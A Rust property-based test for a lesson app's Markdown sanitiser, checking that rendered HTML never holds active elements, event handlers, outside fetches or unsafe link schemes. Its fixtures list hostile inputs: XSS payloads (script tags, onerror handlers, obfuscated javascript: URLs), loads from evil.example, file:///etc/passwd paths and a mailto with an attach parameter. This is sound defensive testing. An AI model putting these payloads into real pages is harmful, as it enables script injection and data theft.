//! Generated Markdown (proptest): random mixes of nesting, emphasis, links, autolinks,
//! images, tables and hostile raw HTML. Whatever the mix, the sanitised output has no
//! script or other active element, no event handler or style attribute, no address the
//! app would fetch (an image is only ever the pack's own), no link with a scheme other than
//! https, mailto or the app's lesson routes, no `mailto:` asking for more than address,
//! subject and body, and no deeper nesting than the renderer's limits allow.

use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use proptest::prelude::*;
use regex::Regex;

use super::super::*;

/// Link and image targets, friendly and hostile.
const TARGETS: [&str; 18] = [
    "https://ok.example/page",
    "http://evil.example/x",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x.png",
    "w2b-pack://localhost/p/img/x.png",
    "mailto:a@nhs.net?subject=s&attach=/etc/passwd&body=b",
    "mailto:a@nhs.net",
    "img/x.png",
    "../../../etc/passwd",
    "other.md",
    "#/lesson/p/other",
    "smb://host/share",
    "tel:999",
];

/// Raw HTML a hostile pack or pasted note might carry.
const RAW_HTML: [&str; 24] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=https://evil.example/t.png onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"/>",
    "<img srcset=\"https://evil.example/a.png 1x\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"http://evil.example/\" onclick=\"x()\">y</a>",
    "<a href=\"mailto:a@b?attach=C:\\secret\">m</a>",
    "<iframe src=https://evil.example></iframe>",
    "<div onclick=\"x()\" style=\"background:url(https://evil.example/b.png)\">",
    "</div>",
    "<svg onload=alert(1)><script>x()</script></svg>",
    "<b onmouseover=x()>bold</b>",
    "<object data=https://evil.example/o></object>",
    "<embed src=https://evil.example/e>",
    "<video src=https://evil.example/v poster=https://evil.example/p></video>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<form action=https://evil.example><input name=p></form>",
    "<base href=https://evil.example/>",
    "<style>@import url(https://evil.example/s.css)</style>",
    "<!-- <script>alert(1)</script> -->",
    "<details><summary>s</summary>",
    "<a href=\"x\" <b",
];

fn target() -> impl Strategy<Value = &'static str> {
    prop::sample::select(&TARGETS[..])
}

/// One inline piece of a line.
fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        prop::sample::select(
            &[
                "ward",
                "budget",
                "rota",
                "*",
                "_",
                "**",
                "~~",
                "`",
                "\\",
                "|",
                "&amp;",
                "&#x3C;script"
            ][..]
        )
        .prop_map(str::to_owned),
        (prop::sample::select(&["text", "*em*", ""][..]), target())
            .prop_map(|(text, url)| format!("[{text}]({url})")),
        target().prop_map(|url| format!("![alt]({url})")),
        target().prop_map(|url| format!("<{url}>")),
        target().prop_map(|url| format!("see {url} ")),
        prop::sample::select(&RAW_HTML[..]).prop_map(str::to_owned),
    ]
}

/// One line: a nesting prefix (quotes, lists, indentation), then pieces.
fn line() -> impl Strategy<Value = String> {
    (
        prop::collection::vec(
            prop::sample::select(&["> ", "- ", "1. ", "  ", "* "][..]),
            0..40,
        ),
        prop::collection::vec(piece(), 0..12),
    )
        .prop_map(|(prefix, pieces)| prefix.concat() + &pieces.join(" "))
}

/// Lines, with tables and blank lines among them.
fn markdown() -> impl Strategy<Value = String> {
    prop::collection::vec(
        prop_oneof![
            6 => line(),
            1 => Just(String::new()),
            1 => Just("| a | b |\n|:--|--:|\n| <script>x</script> | [l](javascript:x) |".to_owned()),
        ],
        1..25,
    )
    .prop_map(|lines| lines.join("\n"))
}

static ACTIVE_ELEMENT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)<(script|iframe|object|embed|svg|math|style|link|meta|base|form|input|video|audio|source|frame|frameset)\b",
    )
    .unwrap_or_else(|e| panic!("{e}"))
});
/// A start tag as the sanitiser writes it: attribute values always in double quotes, with
/// any double quote inside escaped. A `<` in text is always escaped, so every `<` followed
/// by a letter starts a tag.
static START_TAG: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"<[a-zA-Z][a-zA-Z0-9]*((?:\s+[^\s"'>/=]+(?:="[^"]*")?)*)\s*/?>"#)
        .unwrap_or_else(|e| panic!("{e}"))
});
static ATTRIBUTE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"([^\s"'>/=]+)(?:="([^"]*)")?"#).unwrap_or_else(|e| panic!("{e}"))
});
static TAG: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"<(/?)([a-zA-Z0-9]+)").unwrap_or_else(|e| panic!("{e}")));

const VOID: [&str; 5] = ["br", "hr", "img", "col", "wbr"];

/// The deepest nesting of elements in sanitised (so well-formed) HTML.
pub(super) fn depth(html: &str) -> usize {
    let (mut depth, mut deepest) = (0usize, 0usize);
    for tag in TAG.captures_iter(html) {
        if VOID.contains(&tag[2].to_ascii_lowercase().as_str()) {
            continue;
        }
        if tag[1].is_empty() {
            depth += 1;
            deepest = deepest.max(depth);
        } else {
            depth = depth.saturating_sub(1);
        }
    }
    deepest
}

fn check(html: &str) -> Result<(), TestCaseError> {
    prop_assert!(!ACTIVE_ELEMENT.is_match(html), "active element in {html}");
    let mut tags = 0;
    for tag in START_TAG.captures_iter(html) {
        tags += 1;
        for found in ATTRIBUTE.captures_iter(&tag[1]) {
            let name = found[1].to_ascii_lowercase();
            let value = found.get(2).map_or("", |v| v.as_str());
            prop_assert!(
                !name.starts_with("on")
                    && !["style", "srcset", "poster", "action", "data", "formaction"]
                        .contains(&name.as_str()),
                "attribute {name} in {html}"
            );
            match name.as_str() {
                "src" => prop_assert!(
                    value.starts_with("w2b-pack://localhost/"),
                    "an image from outside the pack: {value}"
                ),
                "href" => prop_assert!(
                    value.starts_with("https://")
                        || value.starts_with("#/lesson/")
                        || (value.starts_with("mailto:")
                            && !value.to_ascii_lowercase().contains("attach")),
                    "a link the app must not follow: {value}"
                ),
                "cite" => prop_assert!(value.starts_with("https://"), "cite={value}"),
                _ => {}
            }
        }
    }
    prop_assert_eq!(
        tags,
        html.matches('<').count() - html.matches("</").count(),
        "every tag was read: {}",
        html
    );
    // Lists and quotes (two elements a level at most), then elements of any kind, then raw
    // HTML, and the few the HTML parser adds around tables.
    prop_assert!(
        depth(html) <= MAX_ELEMENT_DEPTH + MAX_RAW_HTML_OPEN + 4,
        "too deep: {}",
        depth(html)
    );
    Ok(())
}

proptest! {
    // Modest, so `cargo test` stays quick; `PROPTEST_CASES=5000` for a longer run.
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn sanitised_output_never_runs_fetches_or_leaves_the_app(md in markdown()) {
        check(&render(&md))?;
        let lessons = HashMap::from([("m/other.md".to_owned(), "other".to_owned())]);
        let assets = HashSet::from(["m/img/x.png".to_owned()]);
        let context = LessonContext {
            pack_id: "p",
            lesson_path: "m/lesson.md",
            lessons: &lessons,
            assets: &assets,
        };
        check(&render_lesson(&md, &context).html)?;
    }
}
